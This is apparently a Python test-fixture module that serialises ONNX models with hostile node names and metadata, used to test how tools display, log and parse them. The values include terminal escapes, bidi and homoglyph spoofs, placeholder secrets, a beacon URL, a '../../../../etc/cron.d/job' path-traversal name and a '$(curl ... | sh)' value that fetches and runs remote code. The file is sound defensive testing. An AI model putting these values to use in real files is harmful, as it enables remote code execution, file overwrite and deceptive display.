"""Models whose names, texts and hidden bytes are meant for whoever shows, logs or reads them."""

from __future__ import annotations

import onnx
from onnx import parser

from .mutators import RELU


def parsed(text: str) -> onnx.ModelProto:
    return parser.parse_model(text)


def _node(name: str) -> bytes:
    model = parsed(RELU)
    model.graph.node[0].name = name
    return model.SerializeToString()


def _metadata(key: str, value: str) -> bytes:
    model = parsed(RELU)
    model.metadata_props.add(key=key, value=value)
    return model.SerializeToString()


# ---- characters


def name_with_an_escape_sequence() -> bytes:
    return _node("\x1b[2Jgone")


def name_with_a_bidi_override() -> bytes:
    return _node("user\u202exnno.tset")


def name_with_a_zero_width_space() -> bytes:
    return _node("con\u200bv1")


def name_with_a_line_break() -> bytes:
    return _node("relu\n[ERROR] model rejected")


def names_in_other_scripts() -> bytes:
    """As people write them: each in the letters of one language."""
    model = parsed(RELU)
    model.graph.node[0].name = "слой/свёртка"
    model.graph.name = "模型"
    model.producer_name = "Ångström éditeur"
    return model.SerializeToString()


def metadata_with_line_breaks() -> bytes:
    return _metadata("names", "{0: 'cat',\n\t1: 'dog'}\r\n")


# ---- look-alikes


def operator_with_a_cyrillic_letter() -> bytes:
    model = parsed(RELU)
    model.graph.node[0].name = "R\u0435lu_1"
    return model.SerializeToString()


def output_that_looks_like_an_input() -> bytes:
    model = parsed(RELU)
    model.graph.node[0].output[0] = model.graph.output[0].name = "\u0445"  # Cyrillic; the input is x
    return model.SerializeToString()


def domain_that_looks_like_another() -> bytes:
    model = parsed(RELU)
    model.opset_import.add(domain="com.micros0ft", version=1)
    return model.SerializeToString()


# ---- long ones


def node_with_a_name_of_256() -> bytes:
    return _node("n" * 256)


def node_with_a_name_of_300() -> bytes:
    return _node("n" * 300)


# ---- texts that are more


def metadata_with_a_command() -> bytes:
    return _metadata("note", "$(curl -s http://198.51.100.7/x | sh)")


def metadata_with_a_key() -> bytes:
    return _metadata("aws", "AKIA" + "IOSFODNN7EXAMPLE")  # of AWS's own documentation


def node_with_a_token() -> bytes:
    return _node("ghp_" + "a1B2" * 9)


def metadata_with_an_address() -> bytes:
    return _metadata("homepage", "http://198.51.100.7/beacon.png")


def tensor_named_like_a_path() -> bytes:
    model = parsed(RELU)
    model.graph.node[0].output[0] = model.graph.output[0].name = "../../../../etc/cron.d/job"
    return model.SerializeToString()


def metadata_with_runtime_options() -> bytes:
    return _metadata("ort_config", '{"session_options": {"intra_op_num_threads": 64}}')
